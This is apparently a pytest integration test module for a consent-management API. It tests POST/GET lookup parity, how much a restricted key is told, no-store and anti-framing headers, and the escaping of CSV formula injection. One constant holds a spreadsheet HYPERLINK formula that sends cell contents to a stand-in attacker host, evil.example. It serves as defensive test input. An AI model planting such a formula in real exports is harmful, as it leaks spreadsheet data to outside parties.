"""Identifier lookups in a POST body give the GET answers with no address in the URL; a
decide-only key looking up by address learns no subject id; a streamed answer is no-store; a
public page forbids framing; CSV cells that start like a formula are written as text. All
against the real API, broker and PostgreSQL; what needs no address looked up in PostgreSQL (the
twins' field and scope refusals, no-store, framing, trailing slashes) is checked in-process:
tests/unit/services/api/test_lookups_and_headers.py."""

from __future__ import annotations

import csv
import io
import uuid
from collections.abc import AsyncIterator
from dataclasses import dataclass
from datetime import UTC, datetime
from typing import Any

import httpx
import pytest

from schemas.events import rfc3339
from services.config import Settings
from services.identity.api_keys import AUDIT, DECIDE
from tests.integration.access_support import bearer, made_key
from tests.integration.unsubscribe_support import issue, path_of

pytestmark = pytest.mark.integration

EMAIL = "ada.lookup@example.com"
PHONE = "+358 40 765 4321"
FORMULA = '=HYPERLINK("https://evil.example/?"&A2,"details")'


@dataclass(frozen=True, slots=True)
class World:
    api: httpx.AsyncClient
    settings: Settings
    subject: str
    token: str
    decide_key: str
    audit_key: str


@pytest.fixture(scope="module")
async def world(module_api: httpx.AsyncClient, module_settings: Settings) -> AsyncIterator[World]:
    api, subject = module_api, f"lookup-{uuid.uuid4().hex[:8]}"
    for kind, value in (("email", EMAIL), ("phone", PHONE)):
        linked = await api.post(
            f"/v1/subjects/{subject}/identifiers", json={"type": kind, "value": value}
        )
        assert linked.status_code == 201, linked.text
    granted = await api.post(
        f"/v1/subjects/{subject}/consents",
        json={
            "purpose": "newsletter",
            "channel": "email",
            "method": "form",
            "source": {"system": FORMULA, "collection_point": "-footer"},
        },
    )
    assert granted.status_code == 201, granted.text
    _, decide_key = await made_key(module_settings, api, DECIDE, name="newsletter-tool")
    _, audit_key = await made_key(module_settings, api, DECIDE, AUDIT, name="dpo")
    yield World(api, module_settings, subject, granted.json()["token"], decide_key, audit_key)


def _lookup(world: World, **extra: str) -> dict[str, str]:
    return {"email": EMAIL, "min_token": world.token, **extra}


def _without(body: dict[str, Any], *names: str) -> dict[str, Any]:
    return {k: v for k, v in body.items() if k not in names}


@pytest.mark.parametrize(
    ("view", "extra", "varies"),
    [
        ("consent", {}, ()),
        ("events", {"limit": "10"}, ()),
        ("verify", {}, ()),
        ("export", {}, ("generated_at",)),
    ],
)
async def test_a_subject_route_answers_the_same_to_its_post_twin(
    world: World, view: str, extra: dict[str, str], varies: tuple[str, ...]
) -> None:
    got = await world.api.get(f"/v1/subjects/by-identifier/{view}", params=_lookup(world, **extra))
    posted = await world.api.post(
        f"/v1/subjects/by-identifier/{view}", json=_lookup(world, **extra)
    )
    assert got.status_code == posted.status_code == 200, posted.text
    assert _without(posted.json(), *varies) == _without(got.json(), *varies)
    assert posted.json()["subject_id"] == world.subject


@pytest.mark.parametrize("fmt", ["json", "csv", "avro"])
async def test_the_history_download_answers_the_same_to_its_post_twin(
    world: World, fmt: str
) -> None:
    got = await world.api.get(
        "/v1/subjects/by-identifier/history", params=_lookup(world, format=fmt)
    )
    posted = await world.api.post(
        "/v1/subjects/by-identifier/history", json=_lookup(world, format=fmt)
    )
    assert got.status_code == posted.status_code == 200, posted.text
    assert got.headers["content-type"] == posted.headers["content-type"]
    if fmt != "avro":  # an Avro file's sync marker is random per file
        assert got.content == posted.content


async def test_the_decision_answers_the_same_to_post(world: World) -> None:
    for lookup in ({"email": EMAIL}, {"phone": PHONE}, {"subject_id": world.subject}):
        fields = {**lookup, "purpose": "newsletter", "channel": "email", "min_token": world.token}
        got = await world.api.get("/v1/decision", params=fields)
        posted = await world.api.post("/v1/decision", json=fields)
        assert got.status_code == posted.status_code == 200, posted.text
        assert posted.json() == got.json()
        assert posted.json()["allowed"] is True
        assert posted.json()["subject_id"] == world.subject


async def test_the_audit_page_answers_to_its_post_twin(world: World) -> None:
    got = await world.api.get("/audit/subjects/by-identifier", params=_lookup(world))
    posted = await world.api.post("/audit/subjects/by-identifier", json=_lookup(world))
    assert got.status_code == posted.status_code == 200, posted.text
    assert posted.headers["content-type"].startswith("text/html")
    assert world.subject in posted.text and EMAIL not in posted.text


async def test_an_unknown_field_of_a_post_lookup_is_named(world: World) -> None:
    unknown = await world.api.post(
        "/v1/subjects/by-identifier/consent", json={"email": EMAIL, "emial": EMAIL}
    )
    assert unknown.status_code == 422 and unknown.json()["errors"][0]["field"] == "emial"


async def test_an_audit_only_key_asks_what_was_known_by_get_or_post(world: World) -> None:
    live = {"email": EMAIL, "purpose": "newsletter", "channel": "email"}
    as_of = {**live, "at": rfc3339(datetime.now(UTC))}
    _, audit_only = await made_key(world.settings, world.api, AUDIT, name="auditor")
    auditor = bearer(audit_only)
    assert (await world.api.get("/v1/decision", params=as_of, headers=auditor)).status_code == 200
    assert (await world.api.post("/v1/decision", json=as_of, headers=auditor)).status_code == 200


@pytest.mark.parametrize("method", ["GET", "POST"])
async def test_a_decide_only_key_learns_the_decision_but_not_the_subject_id(
    world: World, method: str
) -> None:
    async def ask(key: str, lookup: dict[str, str]) -> dict[str, Any]:
        fields = {**lookup, "purpose": "newsletter", "channel": "email", "min_token": world.token}
        if method == "GET":
            answer = await world.api.get("/v1/decision", params=fields, headers=bearer(key))
        else:
            answer = await world.api.post("/v1/decision", json=fields, headers=bearer(key))
        assert answer.status_code == 200, answer.text
        body: dict[str, Any] = answer.json()
        return body

    for lookup in ({"email": EMAIL}, {"phone": PHONE}):
        hidden = await ask(world.decide_key, lookup)
        assert "subject_id" not in hidden and "evidence" not in hidden
        assert world.subject not in str(hidden)
        assert hidden["allowed"] is True and hidden["reason"] == "consent_given"
        shown = await ask(world.audit_key, lookup)
        assert shown["subject_id"] == world.subject and shown["evidence"]
    nobody = await ask(world.decide_key, {"email": "nobody.here@example.com"})
    assert "subject_id" not in nobody and nobody["reason"] == "unknown_subject"


async def test_a_streamed_answer_is_no_store(world: World) -> None:
    streamed = await world.api.get(
        f"/v1/subjects/{world.subject}/history", params={"format": "csv"}
    )
    assert streamed.status_code == 200
    assert streamed.headers.get_list("cache-control") == ["no-store"]


async def test_a_page_forbids_framing(world: World) -> None:
    links = await issue(world.api, subject_id=world.subject, purpose="newsletter", channel="email")
    shown = await world.api.get(path_of(links["url"]))
    assert shown.status_code == 200
    assert shown.headers["x-frame-options"] == "DENY"


async def test_csv_cells_that_start_like_a_formula_are_text(world: World) -> None:
    download = await world.api.get(
        f"/v1/subjects/{world.subject}/history", params={"format": "csv", "min_token": world.token}
    )
    assert download.status_code == 200
    rows = list(csv.DictReader(io.StringIO(download.text)))
    grant = next(r for r in rows if r["type"] == "ConsentGranted")
    assert grant["source_system"] == "'" + FORMULA
    assert grant["source_collection_point"] == "'-footer"
    assert all(not cell.startswith(("=", "+", "-", "@")) for r in rows for cell in r.values())
